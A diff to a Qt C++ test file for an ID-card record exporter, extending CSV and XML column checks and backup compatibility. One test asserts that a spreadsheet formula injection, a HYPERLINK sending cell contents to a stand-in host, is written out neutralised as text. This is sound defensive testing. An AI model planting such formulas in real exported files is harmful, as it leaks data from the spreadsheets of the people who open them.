@@ -4,6 +4,7 @@
 #include "TestSupport.h"
 
 #include "query/AdoXmlWriter.h"
+#include "query/CardRecord.h"
 #include "query/CsvField.h"
 #include "query/RecordExport.h"
 #include "store/Schema.h"
@@ -11,6 +12,7 @@
 
 #include <QBuffer>
 #include <QHash>
+#include <QSqlQuery>
 #include <QTest>
 
 using namespace RecordExportTest;
@@ -227,7 +229,7 @@ void TestRecordExport::calcRunsNoFormulaAndSplitsNoRow()
     QCOMPARE(Gbk::decode(lines.last()),
              plain.id +
                  QStringLiteral(",普通,男,汉族,1980-05-01,北京市东城区景山前街4号,,北京市公安局东城分局,"
-                                "2010-01-01,2030-01-01,2024-05-06 09:30:00,,,,,,,\r"));
+                                "2010-01-01,2030-01-01,2024-05-06 09:30:00,,,,,,,,,\r"));
     QVERIFY(lines.at(1).contains(
         Gbk::encode(QStringLiteral(",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&B3&C3,"
                                    "\"\"点此\"\")\","))));
@@ -242,7 +244,7 @@ void TestRecordExport::calcRunsNoFormulaAndSplitsNoRow()
         QSKIP(qPrintable(skip));
     QCOMPARE(sheet.formulas, 0);
     QCOMPARE(sheet.rows.size(), cards.size() + 1);
-    const QStringList headers = RecordExport::headerTexts(true);
+    const QStringList headers = RecordExport::headerTexts(Schema::cardColumns());
     QCOMPARE(sheet.rows.first(), headers);
     // Every value in its own column, shown as the text it is, a formula's apostrophe before it.
     const auto shown = [](const QString &value) {
@@ -268,6 +270,8 @@ void TestRecordExport::calcRunsNoFormulaAndSplitsNoRow()
                                       c.card.CardType,
                                       shown(c.card.EnglishName),
                                       shown(c.card.Nationality),
+                                      QString(),
+                                      QString(),
                                       QString(),
                                       QString(),
                                       QString(),
@@ -301,20 +305,20 @@ void TestRecordExport::residentRowsStayAsTheyWereOnAnUpgradedDatabase()
     const QByteArray newCsv = exported(QStringLiteral("NEW.CSV"), RecordExport::Format::Csv);
     const QByteArray newXml = exported(QStringLiteral("NEW.XML"), RecordExport::Format::Xml);
 
-    // Each line is the line it was, byte for byte, then the seven card fields, empty.
+    // Each line is the line it was, byte for byte, then the nine card fields, empty.
     const QList<QByteArray> before = csvLines(oldCsv);
     const QList<QByteArray> after = csvLines(newCsv);
     QCOMPARE(after.size(), before.size());
     QCOMPARE(after.first(), before.first().chopped(1) + Gbk::encode(u',' + CardHeaders.join(u',')) + '\r');
     for (qsizetype i = 1; i < after.size(); ++i)
-        QCOMPARE(after.at(i), before.at(i).chopped(1) + ",,,,,,,\r");
+        QCOMPARE(after.at(i), before.at(i).chopped(1) + ",,,,,,,,,\r");
 
     const ParsedXml o = parseXml(oldXml);
     const ParsedXml n = parseXml(newXml);
     QVERIFY2(n.error.isEmpty(), qPrintable(n.error));
     QCOMPARE(n.names.mid(0, 11), o.names);
     QCOMPARE(n.names.mid(11), Schema::cardColumns());
-    QCOMPARE(n.types.mid(11), QStringList(7, QStringLiteral("string")));
+    QCOMPARE(n.types.mid(11), QStringList(9, QStringLiteral("string")));
     QCOMPARE(n.rows, o.rows); // a NULL card field is no attribute at all
 }
 
@@ -328,48 +332,62 @@ void TestRecordExport::cardColumnsFollowTheEleven()
     fx.add(resident);
     const ExportFixture::Citizen permit = permitHolder();
     const ExportFixture::Citizen permanent = permanentResident();
+    const ExportFixture::Citizen permanent2023 = permanentResident2023();
     fx.add(permit);
     fx.add(permanent);
+    fx.add(permanent2023);
 
     const QString csv = fx.path(QStringLiteral("CARDS.CSV"));
-    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {}), 3);
+    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, {}), 4);
     const QByteArray bytes = ExportFixture::readFile(csv);
     QVERIFY(bytes.contains(",\"O'NEIL, MARY \"\"ANN\"\"\",USA,"));
     QList<QStringList> rows;
     for (const QByteArray &line : csvLines(bytes))
         rows << csvFields(Gbk::decode(line.chopped(1)));
-    QCOMPARE(rows.size(), 4);
+    QCOMPARE(rows.size(), 5);
     QCOMPARE(rows.at(0).mid(11), CardHeaders);
     for (const QStringList &row : rows)
-        QCOMPARE(row.size(), 18);
-    // Ordered by number: the resident card, the permit, the permanent residence card.
-    QCOMPARE(rows.at(1).mid(11), QStringList(7, QString()));
+        QCOMPARE(row.size(), 20);
+    // Ordered by number: the resident card, the permit, the card of 2023, the permanent residence card.
+    QCOMPARE(rows.at(1).mid(11), QStringList(9, QString()));
     QCOMPARE(rows.at(2).mid(0, 4), (QStringList{permit.id, permit.name, permit.sex, QString()}));
     QCOMPARE(rows.at(2).at(10), permit.times.first());
     QCOMPARE(rows.at(2).mid(11),
              (QStringList{QStringLiteral("J"), QString(), QString(), QStringLiteral("H12345678"),
-                          QStringLiteral("01"), QString(), QString()}));
-    QCOMPARE(rows.at(3).at(0), permanent.id);
-    QCOMPARE(rows.at(3).at(10), QString()); // never verified
-    QCOMPARE(rows.at(3).mid(11),
+                          QStringLiteral("01"), QString(), QString(), QString(), QString()}));
+    // Its own fields; the link, written as a formula, reaches the file as text.
+    QCOMPARE(rows.at(3).mid(0, 2), (QStringList{permanent2023.id, permanent2023.name}));
+    QCOMPARE(rows.at(3).mid(11), (QStringList{QStringLiteral("Y"), permanent2023.card.EnglishName,
+                                              QStringLiteral("840"), QString(), QString(), QString(),
+                                              QString(), QStringLiteral("01"), QStringLiteral("'=311")}));
+    QCOMPARE(rows.at(4).at(0), permanent.id);
+    QCOMPARE(rows.at(4).at(10), QString()); // never verified
+    QCOMPARE(rows.at(4).mid(11),
              (QStringList{QStringLiteral("I"), permanent.card.EnglishName, QStringLiteral("USA"), QString(),
-                          QString(), QStringLiteral("17"), QStringLiteral("3100")}));
+                          QString(), QStringLiteral("17"), QStringLiteral("3100"), QString(), QString()}));
 
     const QString xml = fx.path(QStringLiteral("CARDS.XML"));
     RecordExport(fx.db()).exportTo(xml, RecordExport::Format::Xml, {});
     const ParsedXml parsed = parseXml(ExportFixture::readFile(xml));
     QVERIFY2(parsed.error.isEmpty(), qPrintable(parsed.error));
     QCOMPARE(parsed.names, RecordExport::columnNames() + Schema::cardColumns());
-    QCOMPARE(parsed.rows.size(), 3);
+    QCOMPARE(parsed.rows.size(), 4);
     QCOMPARE(parsed.rows.at(1).value(QStringLiteral("PassNumber")), QStringLiteral("H12345678"));
     QVERIFY(!parsed.rows.at(1).contains(QStringLiteral("EnglishName")));
-    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("EnglishName")), permanent.card.EnglishName);
-    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("CardType")), QStringLiteral("I"));
+    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("CardType")), QStringLiteral("Y"));
+    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("Nationality")), QStringLiteral("840"));
+    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("RenewalCount")), QStringLiteral("01"));
+    QCOMPARE(parsed.rows.at(2).value(QStringLiteral("PreviousLink")), QStringLiteral("=311"));
+    QVERIFY(!parsed.rows.at(2).contains(QStringLiteral("AuthorityCode")));
+    QCOMPARE(parsed.rows.at(3).value(QStringLiteral("EnglishName")), permanent.card.EnglishName);
+    QCOMPARE(parsed.rows.at(3).value(QStringLiteral("CardType")), QStringLiteral("I"));
+    QVERIFY(!parsed.rows.at(3).contains(QStringLiteral("RenewalCount")));
 
     // A search by card type selects the export as it selects the list.
     for (const auto &[code, id] :
          {std::pair{QString(QStringLiteral("")), resident.id}, std::pair{CardRecord::Permit, permit.id},
-          std::pair{CardRecord::Permanent, permanent.id}}) {
+          std::pair{CardRecord::Permanent, permanent.id},
+          std::pair{CardRecord::Permanent2023, permanent2023.id}}) {
         SearchCriteria byType;
         byType.equals = {{SearchCriteria::CardTypeColumn, code}};
         const QString path = fx.path(QStringLiteral("TYPE.XML"));
@@ -383,9 +401,48 @@ void TestRecordExport::cardColumnsFollowTheEleven()
     if (!skip.isEmpty())
         QSKIP(qPrintable(skip));
     const QStringList lines = text.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
-    QCOMPARE(lines.size(), 4);
-    const QStringList cells = csvFields(lines.at(3).trimmed());
-    QCOMPARE(cells.size(), 18);
+    QCOMPARE(lines.size(), 5);
+    const QStringList cells = csvFields(lines.at(4).trimmed());
+    QCOMPARE(cells.size(), 20);
     QCOMPARE(cells.at(12), permanent.card.EnglishName);
     QCOMPARE(cells.at(17), QStringLiteral("3100"));
+    // The link is shown as the text it is, never run.
+    QCOMPARE(csvFields(lines.at(3).trimmed()).value(19), QStringLiteral("'=311"));
+}
+
+void TestRecordExport::backupOfTheFirstCardTypesKeepsTheirFields()
+{
+    // A backup made by the version that recorded "J" and "I" cards has their seven columns only.
+    ExportFixture fx;
+    const ExportFixture::Citizen permanent = permanentResident();
+    fx.add(permanent);
+    QSqlQuery q(fx.db());
+    const QStringList first = Schema::cardColumns().mid(0, 7);
+    for (const QString &column : first)
+        QVERIFY(q.exec(QStringLiteral("ALTER TABLE citizen ADD COLUMN %1 TEXT").arg(column)));
+    QVERIFY(
+        q.exec(QStringLiteral("UPDATE citizen SET CardType = 'I', EnglishName = 'MARY', Nationality = 'USA', "
+                              "CardVersion = '17', AuthorityCode = '3100'")));
+    QCOMPARE(Schema::presentCardColumns(fx.db()), first);
+
+    SearchCriteria byType;
+    byType.equals = {{SearchCriteria::CardTypeColumn, CardRecord::Permanent}};
+    const QString csv = fx.path(QStringLiteral("FIRST.CSV"));
+    QCOMPARE(RecordExport(fx.db()).exportTo(csv, RecordExport::Format::Csv, byType), 1);
+    const QList<QByteArray> lines = csvLines(ExportFixture::readFile(csv));
+    QCOMPARE(lines.size(), 2);
+    QCOMPARE(csvFields(Gbk::decode(lines.at(0).chopped(1))).mid(11), CardHeaders.mid(0, 7));
+    QCOMPARE(csvFields(Gbk::decode(lines.at(1).chopped(1))).mid(11),
+             (QStringList{QStringLiteral("I"), QStringLiteral("MARY"), QStringLiteral("USA"), QString(),
+                          QString(), QStringLiteral("17"), QStringLiteral("3100")}));
+    const QString xml = fx.path(QStringLiteral("FIRST.XML"));
+    QCOMPARE(RecordExport(fx.db()).exportTo(xml, RecordExport::Format::Xml, byType), 1);
+    const ParsedXml parsed = parseXml(ExportFixture::readFile(xml));
+    QCOMPARE(parsed.names, RecordExport::columnNames() + first);
+    QCOMPARE(parsed.rows.first().value(QStringLiteral("AuthorityCode")), QStringLiteral("3100"));
+    const std::optional<CardRecord> card = CardRecord::load(fx.db(), permanent.id);
+    QVERIFY(card);
+    QCOMPARE(card->CardType, QStringLiteral("I"));
+    QCOMPARE(card->EnglishName, QStringLiteral("MARY"));
+    QCOMPARE(card->RenewalCount, QString());
 }
